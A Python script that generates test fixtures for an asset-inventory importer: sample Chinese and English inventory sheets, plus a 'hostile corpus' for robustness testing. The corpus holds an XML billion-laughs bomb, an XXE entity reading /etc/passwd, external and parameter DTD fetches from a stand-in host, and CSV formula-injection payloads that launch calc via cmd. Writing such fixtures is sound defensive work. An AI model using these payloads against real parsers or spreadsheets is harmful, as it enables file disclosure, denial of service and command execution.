"""Regenerate the synthetic fixtures (sheets and the hostile corpus) in ``fixtures/``.

The tool outputs (nmap, lshw, GLPI/FusionInventory, OCS) are NOT made here: they
were produced by running the real tools, see ``fixtures/README.md``.  Run with
``.venv/bin/python -m tests.importers.make_fixtures`` from the top of the checkout.
"""

from __future__ import annotations

import csv
import io
import random
from datetime import datetime
from pathlib import Path

import openpyxl

from bench.gen_inventory_csv import HEADERS

FIXTURES = Path(__file__).with_name("fixtures")

CN_HEADERS = HEADERS["cn"]  # the columns of the benchmark sheets, in the same order
CN_ROWS = [
    [
        "BJ-0001",
        "财务部打印机",
        "打印机",
        "惠普",
        "LaserJet M404n",
        "CNB1234567",
        "3C-D9-2B-11-22-33",
        "10.1.2.3",
        "bj-prn-01",
        "北京总部/3楼机房/A01机柜",
        "张三",
        "财务部",
        "2023/5/6",
        "2026年5月5日",
        "在用",
        "",
    ],
    [
        "BJ-0002",
        "研发服务器",
        "服务器",
        "华为",
        "RH2288H V5",
        "2102311XYZ10K8000123",
        "3cd9.2b11.2234",
        "10.1.2.4, fd00::4",
        "BJ-SRV-02",
        "北京总部/3楼机房/A02机柜",
        "李四",
        "研发部",
        "2022.12.1",
        "2025-12-01",
        "维修中",
        "RAID 卡已更换",
    ],
    [
        "BJ-0003",
        "接入交换机",
        "网络设备",
        "H3C",
        "S5130",
        "To be filled by O.E.M.",
        "00:00:00:00:00:00",
        "10.1.2.5",
        "无",
        "上海分部/2F/B03",
        "王五",
        "网络部",
        "2021年3月15日",
        "",
        "闲置",
        "序列号待补",
    ],
    [
        "BJ-0004",
        "坏行",
        "PC",
        "联想",
        "M720",
        "PC0ABCDE",
        "zz:zz:zz",
        "10.1.2.300",
        "",
        "北京总部",
        "赵六",
        "行政部",
        "2023/13/45",
        "",
        "在用",
        "",
    ],
]
EN_HEADERS = HEADERS["en"]
EN_ROWS = [
    [
        "NY-100",
        "Reception PC",
        "Desktop",
        "Dell",
        "OptiPlex 7090",
        "7XK2M93",
        "a4:bb:6d:01:02:03",
        "192.0.2.10",
        "ny-rcp-01.example.com",
        "New York/Floor 1/Reception",
        "Alice",
        "Front Desk",
        "2022-01-31",
        "2025-01-31",
        "Deployed",
        '=HYPERLINK("x")',
    ],
    [
        "NY-101",
        "Laptop",
        "Laptop",
        "Lenovo",
        "T14",
        "PF3ABCDE",
        "",
        "",
        "",
        "New York",
        "Bob",
        "Sales",
        "2023-06-01",
        "",
        "Deployed",
        "-",
    ],
]


def _csv_bytes(headers: list[str], rows: list[list[str]], encoding: str) -> bytes:
    """Render rows as CSV text (CRLF, as Excel writes) in ``encoding``."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return buf.getvalue().encode(encoding)


def sheets() -> None:
    """Write the inventory CSVs (GBK, UTF-8 BOM), the scans CSV, mapping CSV and the XLSX."""
    (FIXTURES / "inventory-gbk.csv").write_bytes(_csv_bytes(CN_HEADERS, CN_ROWS, "gb18030"))
    (FIXTURES / "inventory-utf8-bom.csv").write_bytes(_csv_bytes(EN_HEADERS, EN_ROWS, "utf-8-sig"))
    scans = [
        ["资产编号", "位置", "盘点人", "盘点时间", "状况", "备注"],
        ["BJ-0001", "北京总部/3楼机房/A01机柜", "陈七", "2024-05-06 14:30", "完好", ""],
        [
            "BJ-0002",
            "北京总部/3楼机房/A03机柜",
            "陈七",
            "2024/5/6 14:35:10",
            "外壳破损",
            "位置变更",
        ],
        ["", "北京总部", "陈七", "2024-05-06 14:40", "完好", "无标签"],
    ]
    (FIXTURES / "scans.csv").write_bytes(_csv_bytes(scans[0], scans[1:], "utf-8"))
    mapped = [["设备编码", "IMEI", "内部编号", "名称"], ["M-1", "356938035643809", "x1", "手机"]]
    (FIXTURES / "inventory-custom-headers.csv").write_bytes(
        _csv_bytes(mapped[0], mapped[1:], "utf-8")
    )
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "资产清单"
    ws.append(["资产编号", "名称", "序列号", "购置日期", "保修到期", "位置", "备注", "MAC地址"])
    ws.append(
        [
            "SH-0001",
            "=1+1",
            "SN-XL-1",
            datetime(2023, 5, 6),
            46000,
            "上海分部/1F",
            "公式在名称",
            "3c-d9-2b-aa-bb-cc",
        ]
    )
    ws.append(
        [
            "SH-0002",
            "会议室电视",
            123456789012,
            "2023年5月6日",
            "2026/5/6",
            "上海分部/会议室",
            "+86 10 1234",
            "",
        ]
    )
    ws.append([None, None, None, None, None, None, None, None])
    ws.append(["SH-0003", "投影仪", "PJ-3", 45000.0, None, "上海分部", "@SUM(A1)", ""])
    ws["D2"].number_format = "yyyy-mm-dd"
    wb.save(FIXTURES / "inventory.xlsx")


ENTITY_FILES = {
    "billion-laughs.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        + "".join(
            f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
            for i in range(1, 10)
        )
        + "]>\n<nmaprun>&lol9;</nmaprun>\n"
    ),
    "quadratic-blowup.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY a "' + "B" * 20000 + '">]>\n'
        "<nmaprun>" + "&a;" * 2000 + "</nmaprun>\n"
    ),
    "external-entity.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE REQUEST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        "<REQUEST><CONTENT><HARDWARE><NAME>&xxe;</NAME></HARDWARE></CONTENT></REQUEST>\n"
    ),
    "dtd-url.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE nmaprun SYSTEM "http://192.0.2.1/nmap.dtd">\n'
        '<nmaprun><host><status state="up"/><address addr="192.0.2.9" addrtype="ipv4"/></host>'
        "</nmaprun>\n"
    ),
    "parameter-entity.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE REQUEST [<!ENTITY % remote SYSTEM '
        '"http://192.0.2.1/evil.dtd"> %remote;]>\n<REQUEST/>\n'
    ),
    "deep.xml": '<?xml version="1.0"?>\n<nmaprun>' + "<a>" * 200 + "</a>" * 200 + "</nmaprun>\n",
    "gbk-declared.xml": ('<?xml version="1.0" encoding="GBK"?>\n<REQUEST><CONTENT/></REQUEST>\n'),
}


def hostile() -> None:
    """Write the hostile corpus: entity attacks, truncation, junk, encodings, NULs, formulas."""
    hostile_dir = FIXTURES / "hostile"
    hostile_dir.mkdir(exist_ok=True)
    for name, text in ENTITY_FILES.items():
        (hostile_dir / name).write_text(text, encoding="utf-8")
    glpi = (FIXTURES / "glpi-vm.xml").read_bytes()
    (hostile_dir / "truncated-glpi.xml").write_bytes(glpi[: len(glpi) // 2])
    junk = random.Random(20240506).randbytes(4096)
    for suffix in ("csv", "xml", "xlsx", "json"):
        (hostile_dir / f"binary-junk.{suffix}").write_bytes(junk)
    latin = "Asset Tag,Name,Location\nFR-1,Café Printer,Salle à manger\n"
    (hostile_dir / "latin1.csv").write_bytes(latin.encode("latin-1"))
    (hostile_dir / "nul-bytes.csv").write_bytes(
        b"Asset Tag,Name\nA-1,ok\nA-2,bad\x00name\nA-3,ok\n"
    )
    (hostile_dir / "formulas.csv").write_bytes(
        _csv_bytes(
            ["Asset Tag", "Name", "Notes"],
            [["F-1", "=cmd|' /C calc'!A0", "+SUM(1,2)"], ["F-2", "@SUM(A1)", "-2+3"]],
            "utf-8",
        )
    )
    (hostile_dir / "unknown-header.csv").write_bytes(
        _csv_bytes(["资产编号", "名称", "颜色"], [["U-1", "椅子", "红"]], "gb18030")
    )
    (hostile_dir / "bad-quoting.csv").write_bytes(b'Asset Tag,Name\nQ-1,"unterminated\n')


if __name__ == "__main__":
    sheets()
    hostile()
